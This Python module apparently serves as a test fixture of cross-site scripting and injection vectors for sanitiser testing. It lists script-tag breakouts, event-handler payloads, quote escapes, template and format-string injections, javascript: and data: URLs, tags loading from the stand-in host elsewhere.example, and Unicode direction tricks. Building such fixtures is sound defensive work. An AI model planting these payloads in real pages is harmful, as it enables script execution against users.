"""Texts that would run, load or break out if a page showed them as anything but text. Our own."""

from __future__ import annotations

SCRIPTS = (
    "<script>taken()</script>", "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>", "<script/x>taken()</script>",
    "</title><script>taken()</script>", "</style><script>taken()</script>", "</textarea><script>taken()</script>",
    "</summary></details><script>taken()</script>", "--><script>taken()</script>", "]]><script>taken()</script>",
    "<<script>taken()//<</script>", "<script\x0c>taken()</script>", "<scr<script>ipt>taken()</scr</script>ipt>",
    "<svg><script>taken()</script></svg>", "<math><mtext><script>taken()</script></mtext></math>",
    "<noscript><p title=\"</noscript><script>taken()</script>\">", "<template><script>taken()</script></template>",
)  # fmt: skip
EVENTS = (
    "<img src=x onerror=taken()>", "<img/src/onerror=taken()>", "<img src=x:x onerror=\"taken()\">",
    "<svg onload=taken()>", "<svg/onload=taken()//", "<body onload=taken()>", "<details open ontoggle=taken()>",
    "<input autofocus onfocus=taken()>", "<select autofocus onfocus=taken()>", "<textarea autofocus onfocus=taken()>",
    "<video src=x onerror=taken()>", "<video><source onerror=taken()></video>", "<audio src=x onerror=taken()>",
    "<marquee onstart=taken()>", "<div style=animation-name:x onanimationstart=taken()>",
    "<a onpointerover=taken() href=#>over</a>", "<object data=x onerror=taken()>", "<iframe onload=taken()>",
    "<math href=javascript:taken()>go</math>", "<svg><animate onbegin=taken() attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=taken()></svg>", "<xss id=x tabindex=1 onfocus=taken()></xss>",
)  # fmt: skip
QUOTES = (
    "\" onmouseover=\"taken()\" x=\"", "' onmouseover='taken()' x='", "\"><script>taken()</script>",
    "'><img src=x onerror=taken()>", "\" autofocus onfocus=taken() x=\"", "` onerror=taken() `",
    "\"/><svg onload=taken()>",
    "x\" style=\"background:url(//elsewhere.example/)", "&quot;&gt;&lt;script&gt;taken()&lt;/script&gt;",
    "&#34;&#62;&#60;script&#62;taken()", "\\\"><script>taken()</script>", "%22%3E%3Cscript%3Etaken()%3C/script%3E",
    "{{constructor.constructor('taken()')()}}", "${taken()}", "{0} {names} {skip} {__class__}", "%s %n %(x)s",
)  # fmt: skip
ADDRESSES = (
    "javascript:taken()", "JaVaScRiPt:taken()", "java\tscript:taken()", "java\nscript:taken()",
    " javascript:taken()", "\x01javascript:taken()", "javascript&colon;taken()", "vbscript:taken()",
    "data:text/html,<script>taken()</script>", "data:image/svg+xml,<svg onload=taken()>", "//elsewhere.example/x",
    "http://elsewhere.example/\" onerror=\"taken()", "https://elsewhere.example/'><script>taken()</script>",
    "http://user:pass@elsewhere.example/", "feed:javascript:taken()", "view-source:javascript:taken()",
)  # fmt: skip
LOADING = (
    "<img src=//elsewhere.example/p.png>", "<link rel=stylesheet href=//elsewhere.example/s.css>",
    "<style>@import '//elsewhere.example/s.css';</style>", "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>", "<iframe src=//elsewhere.example/></iframe>",
    "<form action=//elsewhere.example/><button>go</button></form>",
    "<p style=\"background:url(//elsewhere.example/b)\">",
    "<video poster=//elsewhere.example/v.png></video>", "<embed src=//elsewhere.example/e>",
    "<img srcset=\"//elsewhere.example/1 1x\">", "<a href=//elsewhere.example/ ping=//elsewhere.example/ping>p</a>",
)  # fmt: skip
SIGNS = (
    "\u202e\u2066gnp.exe", "\ufeff\u200b\u2060", "a\u0300" * 40, "\x0bvertical\x0c", "\ud7ff\ue000\ufffd", "𒐫" * 20,
)  # fmt: skip
VECTORS = (*SCRIPTS, *EVENTS, *QUOTES, *ADDRESSES, *LOADING, *SIGNS)
